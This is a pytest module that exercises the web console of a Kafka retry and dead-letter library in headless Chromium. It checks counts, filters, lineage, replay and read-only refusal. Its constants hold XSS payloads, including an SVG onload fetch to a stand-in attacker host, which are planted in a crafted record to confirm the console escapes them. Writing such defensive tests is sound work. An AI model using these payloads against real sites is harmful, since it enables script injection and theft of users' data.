"""The operator console in a real headless browser (Debian's chromium, driven by Playwright; never a downloaded
browser), on a pipeline that a real RetryApp ran on the test broker.

Guarantees: the pipeline page's counts are the topics' (end offsets, DLQ records by reason, read back
independently); each DLQ filter shows exactly the matching records; an id that went tier 1 -> tier 2 -> DLQ
shows those three hops; a replay from the page writes each selected record once and a second click writes
nothing; HTML and script in a record's key, headers, exception text and value render as text and run nothing
(no dialog, no request leaves the console); a read-only console (the CLI's default) offers no action and
refuses a forged POST.

One pipeline, one console and one browser for the module. With RETRYTOPICS_SCREENSHOTS=1 the tests write the
PNGs of docs/console.md into docs/images/.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from retrytopics import NonRetryable, Record, RetryApp, RetryPolicy
from retrytopics.connectors.admin import TopicSpec, ensure_topics
from retrytopics.connectors.broker_process import free_port
from retrytopics.connectors.config import KafkaConfig
from retrytopics.connectors.kafka import make_admin, make_producer
from retrytopics.connectors.ranges import partition_bounds, range_reader, read_range
from retrytopics.headers import REPLAY_ID, DlqReason, RetryHeaders, decode, encode

pytestmark = pytest.mark.broker
playwright_api = pytest.importorskip("playwright.sync_api")
uvicorn = pytest.importorskip("uvicorn")

ROOT = Path(__file__).resolve().parents[3]
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
TOKEN = "console-test-token-0123456789"
XSS_KEY = "<script>alert('key')</script>"
XSS_HEADER = '"><img src=x onerror="alert(\'header\')">'
XSS_MESSAGE = "<svg onload=\"fetch('http://attacker.invalid/x')\"></svg> password=hunter2"
XSS_VALUE = b"<iframe src=\"javascript:alert('value')\"></iframe>"
SCREENSHOTS = os.environ.get("RETRYTOPICS_SCREENSHOTS") == "1"


def wait_until(predicate: Callable[[], Any], timeout_s: float, what: str) -> Any:
    deadline = time.monotonic() + timeout_s
    while not (value := predicate()):
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout_s}s waiting for {what}")
        time.sleep(0.1)
    return value


def read_topic(kafka: KafkaConfig, topic: str) -> list[Any]:
    """Every record of `topic`, read back independently of the console."""
    consumer = range_reader(kafka)
    try:
        out = []
        for partition, (low, high) in (partition_bounds(consumer, topic) or {}).items():
            out += read_range(consumer, topic, partition, low, high)
        return out
    finally:
        consumer.close()


def end_offsets(kafka: KafkaConfig, topic: str) -> int:
    consumer = range_reader(kafka)
    try:
        return sum(high for _, high in (partition_bounds(consumer, topic) or {}).values())
    finally:
        consumer.close()


class Pipeline:
    def __init__(self, kafka: KafkaConfig) -> None:
        uid = f"{os.getpid()}-{uuid.uuid4().hex[:6]}"
        self.kafka = kafka
        self.source, self.group = f"console-orders-{uid}", f"console-billing-{uid}"
        self.app = RetryApp(kafka=kafka, group=self.group,
                            consumer_overrides={"session.timeout.ms": 6000, "heartbeat.interval.ms": 500})  # fmt: skip

    def dlq_records(self) -> list[Any]:
        return read_topic(self.kafka, self.app.topics(self.source).dlq)


@pytest.fixture(scope="module")
def pipeline(kafka: KafkaConfig) -> Iterator[Pipeline]:
    """A source of 12 records handled by a real app: 4 succeed, 3 fail once (recovered in tier 1), 3 always
    time out (tier 1 -> tier 2 -> DLQ, exhausted), 2 are non-retryable; then two crafted DLQ records: one
    carrying HTML and script everywhere, one with a `trace-id` header."""
    p = Pipeline(kafka)
    ensure_topics(make_admin(kafka), [TopicSpec(name=p.source, partitions=2)])
    calls: Counter[bytes] = Counter()
    lock = threading.Lock()

    @p.app.handler(p.source, policy=RetryPolicy(delays=["200ms", "400ms"]))
    def handle(record: Record[bytes]) -> None:
        with lock:
            calls[record.value] += 1
            seen = calls[record.value]
        if record.value.startswith(b"flaky") and seen == 1:
            raise RuntimeError("flaky the first time")
        if record.value.startswith(b"broken"):
            raise TimeoutError("gateway timed out")
        if record.value.startswith(b"bad"):
            raise NonRetryable(ValueError("bad order"))

    p.app.provision()
    producer = make_producer(kafka)
    values = [b"ok-%d" % i for i in range(4)] + [b"flaky-%d" % i for i in range(3)]
    values += [b"broken-%d" % i for i in range(3)] + [b"bad-%d" % i for i in range(2)]
    for i, value in enumerate(values):
        producer.produce(p.source, key=b"k-%d" % i, value=value)
    assert producer.flush(30) == 0
    p.app.start(tiers="all")
    try:
        wait_until(lambda: len(p.dlq_records()) == 5, 90, "3 exhausted and 2 non-retryable records in the DLQ")
        wait_until(lambda: sum(calls.values()) == 4 + 3 * 2 + 3 * 3 + 2, 30, "every handler call")
    finally:
        assert p.app.stop()
    crafted = dict(
        reconsume_times=1, original_topic=p.source, original_partition=0, original_offset=10_000,
        original_timestamp=-1, consumer_group=p.group, tier=None, due_at=None, first_failed_at=1_700_000_000_000,
        last_failed_at=1_700_000_000_000, exception_trace="Traceback: " + XSS_MESSAGE, dlq_reason=DlqReason.NON_RETRYABLE,
    )  # fmt: skip
    evil = RetryHeaders(origin_message_id="evil-1", exception_type="<b>evil.Type</b>", exception_message=XSS_MESSAGE,
                        **crafted)  # type: ignore[arg-type]  # fmt: skip
    traced = RetryHeaders(origin_message_id="traced-1", exception_type="builtins.KeyError", exception_message="k",
                          **crafted)  # type: ignore[arg-type]  # fmt: skip
    dlq = p.app.topics(p.source).dlq
    producer.produce(dlq, key=XSS_KEY.encode(), value=XSS_VALUE, partition=0,
                     headers=[("x-note", XSS_HEADER.encode()), *encode(evil)])  # fmt: skip
    producer.produce(dlq, key=b"k-traced", value=b"{}", partition=1, headers=[("trace-id", b"abc"), *encode(traced)])
    assert producer.flush(30) == 0
    yield p


@pytest.fixture(scope="module")
def console(pipeline: Pipeline) -> Iterator[str]:
    """The console with actions on, served by uvicorn in a thread; its base URL."""
    from retrytopics.config import AppSettings
    from retrytopics.console.reader import PipelineReader
    from retrytopics.console.web import ConsoleOptions, create_app
    from retrytopics.ops import pipeline_topics

    settings = AppSettings(topic=pipeline.source, group=pipeline.group, delays=("200ms", "400ms"))
    reader = PipelineReader(kafka=pipeline.kafka, pipeline=settings, topics=pipeline_topics(settings))
    reader.start_tally()
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(ConsoleOptions(actions=True, token=TOKEN), reader),
                                           host="127.0.0.1", port=port, log_level="warning", log_config=None))  # fmt: skip
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    wait_until(lambda: server.started, 30, "the console to listen")
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)
    reader.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not os.path.exists(CHROMIUM):
        pytest.fail("chromium is not installed: run scripts/setup.sh (apt-get install chromium)")
    with playwright_api.sync_playwright() as driver:
        launched = driver.chromium.launch(executable_path=CHROMIUM, headless=True)
        yield launched
        launched.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield context.new_page()
    context.close()


def shot(page: Any, name: str) -> None:
    if SCREENSHOTS:
        (ROOT / "docs" / "images").mkdir(exist_ok=True)
        page.screenshot(path=str(ROOT / "docs" / "images" / f"console-{name}.png"), full_page=True)


def log_in(page: Any, console: str, operator: str) -> None:
    page.goto(console + "/login")
    page.fill("input[name=operator]", operator)
    page.fill("input[name=token]", TOKEN)
    page.click("#login")
    page.wait_for_url("**/dlq")


def written_by_the_replay_shown(page: Any, kafka: KafkaConfig, topic: str) -> list[Any]:
    """The records of `topic` that carry the replay id the page shows."""
    replay_id = (REPLAY_ID, page.text_content("#replay-id").encode())
    return [m for m in read_topic(kafka, topic) if replay_id in (m.headers() or [])]


def shown_coordinates(page: Any) -> set[str]:
    return set(page.eval_on_selector_all("tr.record", "rows => rows.map(r => r.dataset.coordinates)"))


def test_pipeline_page_shows_the_topics_counts(pipeline: Pipeline, console: str, page: Any) -> None:
    """Every stage's record count is its topics' end offsets, and the DLQ by reason is the DLQ's own content,
    updated live (no reload) until every tier and DLQ record is counted."""
    topics = pipeline.app.topics(pipeline.source)
    page.goto(console + "/")
    first_update = page.text_content("#updated")
    # polled from here: the page's CSP forbids evaluating strings, which page.wait_for_function does
    wait_until(lambda: "/chart.svg?at=" in page.get_attribute("#chart", "src"), 15, "the page's script to refresh it")
    assert page.text_content("#updated") != first_update  # refreshed without a reload
    wait_until(lambda: page.text_content("#counted") == page.text_content("#counted-of") != "0", 30,
               "every tier and DLQ record counted")
    stages = page.eval_on_selector_all("#stages tbody tr", "rows => rows.map(r => [...r.cells].map(c => c.textContent))")
    shown = {row[1]: int(row[2]) for row in stages}
    expected = {t: end_offsets(pipeline.kafka, t) for t in (topics.source, *(t.topic for t in topics.tiers), topics.dlq)}
    assert shown == expected and expected[topics.dlq] == 7
    by_reason = page.eval_on_selector_all("#by-reason tbody tr", "rows => rows.map(r => [...r.cells].map(c => c.textContent))")
    truth = Counter(decode(list(m.headers())).dlq_reason.value for m in pipeline.dlq_records())
    assert {reason: int(n) for reason, n in by_reason} == truth == {"exhausted": 3, "non_retryable": 4}
    shot(page, "pipeline")


@pytest.mark.parametrize(
    ("query", "matches"),
    [
        ("reason=exhausted", lambda r, m: r.dlq_reason == DlqReason.EXHAUSTED),
        ("exception_type=builtins.KeyError", lambda r, m: r.exception_type == "builtins.KeyError"),
        ("header=trace-id%3Dabc", lambda r, m: ("trace-id", b"abc") in m.headers()),
        ("key=k-7", lambda r, m: m.key() == b"k-7"),
        ("origin_id=evil-1", lambda r, m: r.origin_message_id == "evil-1"),
        ("since=2020-01-01T00:00:00Z", lambda r, m: m.timestamp()[1] >= 1_577_836_800_000),
    ],
)
def test_filters_show_exactly_the_matching_records(pipeline: Pipeline, console: str, page: Any, query: str,
                                                   matches: Callable[[Any, Any], bool]) -> None:  # fmt: skip
    """A filter keeps exactly the DLQ records that match it (compared with the DLQ read back), no more."""
    expected = {f"{m.partition()}:{m.offset()}" for m in pipeline.dlq_records() if matches(decode(list(m.headers())), m)}
    page.goto(f"{console}/dlq?{query}")
    assert shown_coordinates(page) == expected and expected


def test_filter_form_filters_by_reason(pipeline: Pipeline, console: str, page: Any) -> None:
    """The filter form, used as an operator uses it, shows the non-retryable records only."""
    page.goto(console + "/dlq")
    assert len(shown_coordinates(page)) == 7
    shot(page, "dlq")
    page.select_option("select[name=reason]", "non_retryable")
    page.click("#apply")
    page.wait_for_url("**/dlq?*reason=non_retryable*")
    assert set(page.eval_on_selector_all("td.reason", "cells => cells.map(c => c.textContent)")) == {"non_retryable"}
    assert len(shown_coordinates(page)) == 4


def test_lineage_of_an_exhausted_record_shows_its_three_hops(pipeline: Pipeline, console: str, page: Any) -> None:
    """An id that went tier 1 -> tier 2 -> DLQ shows those three hops in time order, and its source record."""
    exhausted = [decode(list(m.headers())) for m in pipeline.dlq_records()]
    origin = next(r.origin_message_id for r in exhausted if r.dlq_reason == DlqReason.EXHAUSTED)
    page.goto(console + "/dlq?reason=exhausted")
    page.click(f"td.origin a:text-is('{origin}')")
    page.wait_for_url("**/lineage?id=*")
    stages = page.eval_on_selector_all("#hops tr.hop td.stage", "cells => cells.map(c => c.textContent)")
    assert stages == ["tier 1", "tier 2", "DLQ"]
    assert pipeline.source in page.text_content("#origin")
    shot(page, "lineage")


def test_html_and_script_in_a_record_render_as_text_and_run_nothing(pipeline: Pipeline, console: str, page: Any) -> None:
    """Key, header, exception type, message, trace and value of a crafted record show as the literal text;
    no dialog opens, no request leaves the console, no element of the payload exists; the secret in the
    message is hidden; every response carries the strict CSP."""
    dialogs: list[str] = []
    foreign: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: None if r.url.startswith(console) else foreign.append(r.url))
    response = page.goto(console + "/dlq?origin_id=evil-1")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert page.text_content("td.key") == XSS_KEY
    assert page.text_content("td.exception") == "<b>evil.Type</b>"
    page.click("summary")
    assert XSS_HEADER in page.text_content("ul.headers")
    message = page.text_content("pre.message")
    assert message.startswith("<svg onload=")  # shown as text
    assert "hunter2" not in page.content()  # the secret in it redacted everywhere: message, trace, raw headers
    page.click("a.reveal")
    page.click("summary")
    assert page.text_content("pre.value") == XSS_VALUE.decode()
    shot(page, "escaped")
    assert page.query_selector("main script, main img[src=x], main svg, main iframe") is None
    page.wait_for_timeout(500)  # let any payload that did get in fire (it must not)
    assert dialogs == [] and foreign == []


def test_replay_from_the_page_writes_each_record_once(pipeline: Pipeline, console: str, page: Any) -> None:
    """Checked records are previewed (nothing written), then replayed to the source once each; a second click
    writes nothing, and the source holds exactly one replay of each."""
    log_in(page, console, "ada")
    page.goto(console + "/dlq?reason=exhausted")
    chosen = shown_coordinates(page)
    assert len(chosen) == 3
    before = end_offsets(pipeline.kafka, pipeline.source)
    page.check("#check-all")
    page.click("#preview")
    page.wait_for_selector("#confirm")
    assert page.text_content("[data-count=selected]") == "3" and page.text_content("#confirm") == "Replay 3 records"
    assert end_offsets(pipeline.kafka, pipeline.source) == before  # the preview wrote nothing
    shot(page, "replay-preview")
    page.click("#confirm")
    page.wait_for_selector("#again")
    assert page.text_content("[data-count=written]") == "3"
    page.click("#again")
    page.wait_for_selector("#again")
    assert page.text_content("[data-count=written]") == "0"
    assert page.text_content("[data-count=skipped_already_replayed]") == "3"
    replayed = written_by_the_replay_shown(page, pipeline.kafka, pipeline.source)
    assert len(replayed) == 3 and sorted(m.value() for m in replayed) == [b"broken-0", b"broken-1", b"broken-2"]


def test_replay_of_a_filter_to_the_first_tier_writes_valid_tier_records(pipeline: Pipeline, console: str,
                                                                        page: Any) -> None:  # fmt: skip
    """Every record matching a filter (the app's two non-retryable failures) is replayed to the first tier
    once, with retry headers a tier consumer accepts: tier 0, due at once, the failure count reset, the
    replay lineage naming the DLQ record's origin id."""
    log_in(page, console, "grace")
    page.goto(console + "/dlq?reason=non_retryable&exception_type=builtins.ValueError")
    expected = {decode(list(m.headers())).origin_message_id for m in pipeline.dlq_records()
                if decode(list(m.headers())).exception_type == "builtins.ValueError"}  # fmt: skip
    page.check("input[name=destination][value=first_tier]")
    page.click("#preview-filter")
    page.wait_for_selector("#confirm")
    assert page.text_content("[data-count=selected]") == "2"
    page.click("#confirm")
    page.wait_for_selector("#again")
    assert page.text_content("[data-count=written]") == "2"
    tier = pipeline.app.topics(pipeline.source).tiers[0].topic
    written = [decode(list(m.headers())) for m in written_by_the_replay_shown(page, pipeline.kafka, tier)]
    assert {h.lineage.replay_origin_id for h in written} == expected and len(written) == 2
    assert all(h.tier == 0 and h.reconsume_times == 1 and h.dlq_reason is None for h in written)


def test_read_only_console_offers_no_action_and_refuses_a_forged_post(pipeline: Pipeline, page: Any) -> None:
    """`retrytopics console` without --actions: no checkbox, no replay form, no login; a POST forged to the
    replay endpoint is refused (403) and writes nothing."""
    port = free_port()
    cli = str(Path(sys.executable).with_name("retrytopics"))
    process = subprocess.Popen([cli, "console", "--bootstrap", pipeline.kafka.bootstrap, "--topic", pipeline.source,
                                "--group", pipeline.group, "--delays", "200ms,400ms", "--port", str(port)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)  # fmt: skip
    try:
        assert process.stdout is not None
        assert f"read-only) on http://127.0.0.1:{port}/" in process.stdout.readline()
        base = f"http://127.0.0.1:{port}"
        wait_until(lambda: _answers(base), 30, "the CLI's console to answer")
        page.goto(base + "/dlq")
        assert len(shown_coordinates(page)) >= 7
        assert page.query_selector("input.pick, #replay-form, #login-link") is None
        assert page.text_content("#mode") == "read-only"
        before = end_offsets(pipeline.kafka, pipeline.source)
        forged = urllib.parse.urlencode({"csrf": "x", "step": "run", "records": "0:0", "destination": "original"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(urllib.request.Request(base + "/actions/replay", data=forged.encode()), timeout=10)
        assert refused.value.code == 403
        assert end_offsets(pipeline.kafka, pipeline.source) == before
    finally:
        process.terminate()
        process.wait(10)


def _answers(base: str) -> bool:
    try:
        with urllib.request.urlopen(base + "/static/console.css", timeout=2) as response:
            return bool(response.status == 200)
    except OSError:
        return False
